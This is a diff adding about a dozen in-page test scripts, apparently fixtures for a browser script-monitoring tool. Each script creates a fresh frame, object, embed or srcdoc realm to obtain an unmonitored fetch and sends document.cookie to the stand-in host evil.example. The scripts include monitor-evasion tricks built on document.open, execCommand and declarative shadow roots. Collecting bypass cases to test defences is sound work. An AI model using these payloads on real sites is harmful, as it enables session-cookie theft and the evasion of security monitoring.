@@ -1331,6 +1331,193 @@ export const MAIN_WORLD_SCRIPTS = {
   inner.srcdoc = '<p>reloaded</p>';
 })();`,
 
+  /** an <object> browsing context (about:blank): its window taken by contentWindow at its load. */
+  'pristine-object': `(() => {
+  const object = document.createElement('object');
+  object.type = 'text/html';
+  object.data = 'about:blank';
+  object.style.cssText = 'position:absolute;left:-9999px;width:10px;height:10px';
+  object.addEventListener('load', () => {
+    object.contentWindow.fetch('https://evil.example/pristine-object?c=' + encodeURIComponent(document.cookie));
+  });
+  document.body.appendChild(object);
+})();`,
+
+  /** an <embed> browsing context (about:blank): its window taken by window[n] once it is there. */
+  'pristine-embed': `(() => {
+  const embed = document.createElement('embed');
+  embed.type = 'text/html';
+  embed.src = 'about:blank';
+  embed.style.cssText = 'position:absolute;left:-9999px;width:10px;height:10px';
+  const before = window.length;
+  document.body.appendChild(embed);
+  const poll = () => {
+    if (window.length === before) return void setTimeout(poll, 10);
+    setTimeout(() => window[window.length - 1].fetch('https://evil.example/pristine-embed?c=' + encodeURIComponent(document.cookie)), 500);
+  };
+  poll();
+})();`,
+
+  /** a <frame> put in the body (no frameset needed): it gets a browsing context, reached by window[n]. */
+  'pristine-frame-element': `(() => {
+  document.body.appendChild(document.createElement('frame'));
+  const clean = window[window.length - 1];
+  setTimeout(() => clean.fetch('https://evil.example/pristine-frame-element?c=' + encodeURIComponent(document.cookie)), 300);
+})();`,
+
+  /** an iframe made by execCommand('insertHTML') in an editable element, reached by window[n] at once. */
+  'pristine-inserthtml': `(() => {
+  const editor = document.createElement('div');
+  editor.contentEditable = 'true';
+  editor.style.cssText = 'position:absolute;left:-9999px';
+  document.body.appendChild(editor);
+  editor.focus();
+  const range = document.createRange();
+  range.selectNodeContents(editor);
+  getSelection().removeAllRanges();
+  getSelection().addRange(range);
+  document.execCommand('insertHTML', false, '<iframe></iframe>');
+  window[window.length - 1].fetch('https://evil.example/pristine-inserthtml?c=' + encodeURIComponent(document.cookie));
+})();`,
+
+  /**
+   * 'pristine-nested-reloaded' after document.open() on the outer frame's document: open erases every
+   * listener on that document, Saq's capture 'load' listener with them.
+   */
+  'pristine-reopened-nested': `(() => {
+  const outer = document.createElement('iframe');
+  outer.style.display = 'none';
+  document.body.appendChild(outer);
+  const index = window.length - 1;
+  const doc = window[index].document;
+  doc.open();
+  doc.write('<iframe></iframe>');
+  doc.close();
+  const inner = doc.querySelector('iframe');
+  let sent = false;
+  inner.addEventListener('load', () => {
+    const clean = window[index][0];
+    if (sent || clean.location.href !== 'about:srcdoc') return;
+    sent = true;
+    clean.fetch('https://evil.example/pristine-reopened-nested?c=' + encodeURIComponent(document.cookie));
+  });
+  inner.srcdoc = '<p>reloaded</p>';
+})();`,
+
+  /** a frame navigated to srcdoc, its new realm's fetch taken by polling window[n] before the frame's load. */
+  'pristine-polled-srcdoc': `(() => {
+  const frame = document.createElement('iframe');
+  frame.style.display = 'none';
+  document.body.appendChild(frame);
+  const proxy = window[window.length - 1];
+  frame.srcdoc = '<p>reloaded</p><img src="/kz/product/snow-leopard-silver?parse-pause=2000">';
+  const poll = () => {
+    if (proxy.location.href !== 'about:srcdoc') return void setTimeout(poll, 5);
+    proxy.fetch('https://evil.example/pristine-polled-srcdoc?c=' + encodeURIComponent(document.cookie));
+  };
+  poll();
+})();`,
+
+  /** a frame the srcdoc's parser makes inside a srcdoc frame, reached by window[n][0] at the outer load. */
+  'pristine-srcdoc-parsed-frame': `(() => {
+  const frame = document.createElement('iframe');
+  frame.style.display = 'none';
+  frame.srcdoc = '<iframe></iframe>';
+  let sent = false;
+  frame.addEventListener('load', () => {
+    const outer = window[window.length - 1];
+    if (sent || outer.location.href !== 'about:srcdoc' || outer.length === 0) return;
+    sent = true;
+    outer[0].fetch('https://evil.example/pristine-srcdoc-parsed-frame?c=' + encodeURIComponent(document.cookie));
+  });
+  document.body.appendChild(frame);
+})();`,
+
+  /**
+   * a srcdoc frame in a declarative shadow root (setHTMLUnsafe): its script posts a message, and the
+   * helper takes fetch from the event's source, reading no frame accessor.
+   */
+  'pristine-declarative-shadow': `(() => {
+  addEventListener('message', (event) => {
+    if (event.data !== 'pristine-declarative-shadow') return;
+    const clean = event.source;
+    setTimeout(() => clean.fetch('https://evil.example/pristine-declarative-shadow?c=' + encodeURIComponent(document.cookie)), 500);
+  });
+  const host = document.createElement('div');
+  document.body.appendChild(host);
+  host.setHTMLUnsafe('<div><template shadowrootmode="closed"><iframe style="display:none" srcdoc="<script>parent.postMessage(&quot;pristine-declarative-shadow&quot;, &quot;*&quot;)<\\/script>"></iframe></template></div>');
+})();`,
+
+  /** like 'pristine-reopened-nested', the outer document opened implicitly by document.write once it has loaded. */
+  'pristine-rewritten-nested': `(() => {
+  const outer = document.createElement('iframe');
+  outer.style.display = 'none';
+  document.body.appendChild(outer);
+  const index = window.length - 1;
+  setTimeout(() => {
+    const doc = window[index].document;
+    doc.write('<iframe></iframe>');
+    doc.close();
+    const inner = doc.querySelector('iframe');
+    let sent = false;
+    inner.addEventListener('load', () => {
+      const clean = window[index][0];
+      if (sent || clean.location.href !== 'about:srcdoc') return;
+      sent = true;
+      clean.fetch('https://evil.example/pristine-rewritten-nested?c=' + encodeURIComponent(document.cookie));
+    });
+    inner.srcdoc = '<p>reloaded</p>';
+  }, 200);
+})();`,
+
+  /** a srcdoc frame sent to about:blank by its location; the new realm polled for before its load. */
+  'pristine-polled-navigation': `(() => {
+  const frame = document.createElement('iframe');
+  frame.style.display = 'none';
+  document.body.appendChild(frame);
+  const proxy = window[window.length - 1];
+  let started = false;
+  frame.addEventListener('load', () => {
+    if (started || proxy.location.href !== 'about:srcdoc') return;
+    started = true;
+    const old = proxy.Function;
+    proxy.location.href = 'about:blank';
+    const poll = () => {
+      let fresh = false;
+      try { fresh = proxy.Function !== old; } catch {}
+      if (!fresh) return void setTimeout(poll, 0);
+      proxy.fetch('https://evil.example/pristine-polled-navigation?c=' + encodeURIComponent(document.cookie));
+    };
+    poll();
+  });
+  frame.srcdoc = '<p>first</p>';
+})();`,
+
+  /** a named srcdoc frame given a new realm by a form submitted to about:blank; fetch taken at its load. */
+  'pristine-form-target': `(() => {
+  const frame = document.createElement('iframe');
+  frame.name = 'helperform';
+  frame.style.display = 'none';
+  document.body.appendChild(frame);
+  const proxy = window[window.length - 1];
+  let stage = 0;
+  frame.addEventListener('load', () => {
+    if (stage === 0 && proxy.location.href === 'about:srcdoc') {
+      stage = 1;
+      const form = document.createElement('form');
+      form.action = 'about:blank';
+      form.target = 'helperform';
+      form.style.display = 'none';
+      document.body.appendChild(form);
+      form.submit();
+    } else if (stage === 1 && proxy.location.href.startsWith('about:blank')) {
+      stage = 2;
+      proxy.fetch('https://evil.example/pristine-form-target?c=' + encodeURIComponent(document.cookie));
+    }
+  });
+  frame.srcdoc = '<p>first</p>';
+})();`,
+
   /** A srcdoc frame whose own inline script sends the cookie with its realm's fetch. */
   'srcdoc-frame': `(() => {
   const frame = document.createElement('iframe');
